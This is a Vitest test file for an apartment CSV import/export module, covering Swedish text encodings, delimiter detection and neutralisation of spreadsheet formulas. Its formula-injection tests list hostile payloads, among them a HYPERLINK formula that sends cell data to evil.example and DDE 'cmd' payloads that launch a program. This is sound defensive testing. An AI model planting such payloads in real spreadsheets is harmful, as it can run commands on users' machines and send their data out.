import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormula } from '@planvy/shared';
import { buildCsv, decodeCsv, detectDelimiter, formatNumber, parseCsv, readImport } from './apartment-csv';

const text = (bytes: Buffer) => decodeCsv(bytes).text;

describe('apartment CSV', () => {
  it('writes UTF-16LE with a BOM and tabs, and reads it back with Swedish letters intact', () => {
    const bytes = buildCsv(
      [{ bostad: 'Lgh 1101', description: 'Ljus våning; "fin" utsikt\növer sjön', price: '1 995 000' }],
      'sv',
    );
    expect([...bytes.subarray(0, 2)]).toEqual([0xff, 0xfe]);
    const decoded = decodeCsv(bytes);
    expect(decoded.encoding).toBe('utf-16le');
    expect(decoded.text.split('\r\n')[0]).toBe(
      'Bostad\tRum\tVåning\tBoarea\tPris\tAvgift\tTrädgård\tStatus\tInaktiv\tHusnummer\tLänk\tBeskrivning\tInformationsfiler',
    );
    const { records, delimiter } = readImport(decoded.text);
    expect(delimiter).toBe('\t');
    expect(records).toHaveLength(1);
    expect(records[0]!.record.description).toBe('Ljus våning; "fin" utsikt\növer sjön');
    expect(records[0]!.record.bostad).toBe('Lgh 1101');
  });

  it('reads UTF-8 files with semicolons or commas and English headers', () => {
    const semi = readImport('\ufeffBostad;Pris;Status\n1101;2 500 000;Till salu\n');
    expect(semi.records[0]!.record).toEqual({ bostad: '1101', price: '2 500 000', status: 'Till salu' });
    const comma = readImport(text(Buffer.from('Unit,Price,Colour\r\n"A,1",100,red\r\n')));
    expect(comma.records[0]!.record).toEqual({ bostad: 'A,1', price: '100' });
    expect(comma.unknownColumns).toEqual(['Colour']);
  });

  describe('encodings (issue 22)', () => {
    // A Swedish Excel sheet: letters Windows-1252 and Latin-1 share, and two they do not (€, –).
    const sheet = 'Bostad;Tomtnr;Våning;Status;Beskrivning\r\nLgh 1;7;2;Såld;Öppen spis – 5 000 €\r\n';
    const bom = (b: number[], body: Buffer) => Buffer.concat([Buffer.from(b), body]);
    const utf16be = (s: string) => Buffer.from(s, 'utf16le').swap16();

    it.each([
      ['UTF-8', Buffer.from(sheet, 'utf8'), 'utf-8'],
      ['UTF-8 with a BOM', bom([0xef, 0xbb, 0xbf], Buffer.from(sheet, 'utf8')), 'utf-8'],
      ['UTF-16LE with a BOM', bom([0xff, 0xfe], Buffer.from(sheet, 'utf16le')), 'utf-16le'],
      ['UTF-16BE with a BOM', bom([0xfe, 0xff], utf16be(sheet)), 'utf-16be'],
      ['UTF-16LE without a BOM', Buffer.from(sheet, 'utf16le'), 'utf-16le'],
      ['UTF-16BE without a BOM', utf16be(sheet), 'utf-16be'],
      ['Windows-1252', iconv.encode(sheet, 'windows-1252'), 'windows-1252'],
    ])('reads %s with every letter intact', (_name, bytes, encoding) => {
      const decoded = decodeCsv(bytes);
      expect(decoded.encoding).toBe(encoding);
      expect(decoded.text).toBe(sheet);
      expect(readImport(decoded.text).records[0]!.record).toEqual({
        bostad: 'Lgh 1',
        rooms: '7',
        floor: '2',
        status: 'Såld',
        description: 'Öppen spis – 5 000 €',
      });
    });

    it('reads a short Windows-1252 file with only å, ä and ö as Windows-1252', () => {
      for (const word of ['Våning', 'Såld', 'Tomtnr;Trädgård', 'Hörn;Älv'])
        expect(decodeCsv(iconv.encode(word, 'windows-1252'))).toEqual({
          text: word,
          encoding: 'windows-1252',
        });
    });

    it('reads what chardet is sure of in its own encoding', () => {
      const cyrillic = 'Квартира;Этаж;Статус\r\nКв 1;2;Продано, вид на реку и парк\r\n';
      expect(decodeCsv(iconv.encode(cyrillic, 'windows-1251'))).toEqual({
        text: cyrillic,
        encoding: 'windows-1251',
      });
    });

    it('keeps valid UTF-8 UTF-8, even text that would also read as Windows-1252', () => {
      // "Ã¥" is what å in UTF-8 looks like read as Windows-1252: it must come back as å.
      const bytes = Buffer.from('Bostad;Våning\r\nÅ 1;Ä\r\n', 'utf8');
      expect(decodeCsv(bytes)).toEqual({ text: 'Bostad;Våning\r\nÅ 1;Ä\r\n', encoding: 'utf-8' });
      // A stray NUL does not make UTF-8 into UTF-16 (the import refuses it as unstorable).
      expect(decodeCsv(Buffer.from('Bostad\n1\u0000x\n', 'utf8')).encoding).toBe('utf-8');
    });
  });

  describe('separators (issue 22)', () => {
    it('finds semicolons, commas and tabs', () => {
      expect(detectDelimiter('Bostad;Boarea;Pris\n1;70,5;100\n2;80,5;200\n')).toBe(';');
      expect(detectDelimiter('Bostad,Area,Price\n1,70.5,100\n')).toBe(',');
      expect(detectDelimiter('Bostad\tBeskrivning\tPris\n1\ta; b, c\t100\n')).toBe('\t');
    });

    it('ignores separators inside quotes', () => {
      const comma = 'Bostad,Beskrivning,Pris\r\n1,"Hörn; ljus; fin",100\r\n2,"a;b;c;d",200\r\n';
      expect(detectDelimiter(comma)).toBe(',');
      expect(parseCsv(comma)[1]).toEqual(['1', 'Hörn; ljus; fin', '100']);
      const semi = 'Bostad;"Pris, kr";Beskrivning\n1;100;"x, y, z"\n';
      expect(detectDelimiter(semi)).toBe(';');
    });

    it("prefers the separator that gives the first rows the header's column count", () => {
      // Split by commas the header has two columns and so has every row ("70,5"); by
      // semicolons three, on every row: the semicolon has as many consistent rows and more columns.
      expect(detectDelimiter('Bostad;Pris, kr;Boarea\n1;100;70,5\n2;200;80,5\n')).toBe(';');
      // A comma file whose header holds one semicolon: only commas split the rows alike.
      expect(detectDelimiter('Bostad;nr,Pris,Status\n1,100,Såld\n2,200,Till salu\n3,300,Ledig\n')).toBe(',');
    });
  });

  it('formats decimals for the language', () => {
    expect(formatNumber(70.5, 'sv')).toBe('70,5');
    expect(formatNumber(70.5, 'en')).toBe('70.5');
    expect(formatNumber(null, 'en')).toBe('');
  });

  it('skips blank lines', () => {
    expect(parseCsv('a;b\n\n1;2\n')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  describe('formula injection', () => {
    const attacks = [
      '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
      "=cmd|' /C calc'!A0",
      '+46 70 123 45 67',
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      "'=already quoted",
      "''=twice",
      '-1e5',
    ];

    it('writes every cell a spreadsheet would run as text, behind one apostrophe', () => {
      const bytes = buildCsv(
        attacks.map((a) => ({ bostad: a, description: a })),
        'en',
      );
      const rows = parseCsv(text(bytes)).slice(1);
      expect(rows).toHaveLength(attacks.length);
      for (const [i, row] of rows.entries()) {
        for (const cell of [row[0]!, row[11]!]) {
          expect(cell.startsWith("'")).toBe(true);
          expect(cell.slice(1)).toBe(attacks[i]);
        }
      }
    });

    it('leaves plain numbers, negative ones included, and ordinary text alone', () => {
      for (const value of ['-1', '-70,5', '-70.5', '+3', '0', '1101', 'Lgh -1', "it's", "'quoted'", ''])
        expect(neutraliseFormula(value)).toBe(value);
    });

    it('imports an export back to the very same values', () => {
      const values = [...attacks, '-1', "'hello", 'plain'];
      const bytes = buildCsv(
        values.map((v, i) => ({ bostad: `B${i}`, floor: v, description: v })),
        'sv',
      );
      const { records } = readImport(text(bytes));
      expect(records.map((r) => r.record.description)).toEqual(values.map((v) => v.trim()));
      expect(records.map((r) => r.record.floor)).toEqual(values.map((v) => v.trim()));
    });

    it('is undone by restoreFormula for every value', () => {
      for (const v of [...attacks, '-1', "'x", "'", "''", '='])
        expect(restoreFormula(neutraliseFormula(v))).toBe(v);
    });
  });
});
